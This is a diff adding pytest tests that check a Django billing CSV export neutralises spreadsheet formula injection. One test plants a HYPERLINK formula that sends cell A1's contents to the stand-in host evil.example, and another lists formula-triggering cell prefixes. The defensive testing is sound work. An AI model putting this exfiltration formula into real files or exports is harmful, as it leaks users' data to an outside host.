@@ -98,6 +98,28 @@ def test_it_exports_the_bills_as_csv(alice_client, billed):
                            "ecs.g7.xlarge", "postpaid", "3", "0.039999"]
 
 
+def test_it_exports_a_formula_named_job_as_text(alice_client, billed):
+    from apps.jobs.models import Job
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    Job.objects.filter(pk=billed["payg"].pk).update(display_name=formula)
+    response = alice_client.get(reverse("billing:export"), {"pay_type": "postpaid"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert {r[3] for r in rows[1:]} == {"'" + formula}
+    assert rows[2][7:] == ["3", "0.039999"]  # numbers stay numbers
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("train=1", "train=1"), ("", ""),
+    (3, 3), (D("-1.5"), D("-1.5")),
+])
+def test_it_neutralises_cells_a_spreadsheet_would_run(cell, written):
+    from apps.core.csvexport import csv_safe
+
+    assert csv_safe(cell) == written
+
+
 @pytest.mark.parametrize("name", ["billing:index", "billing:export"])
 def test_it_asks_anonymous_visitors_to_log_in(client, db, name):
     response = client.get(reverse(name))
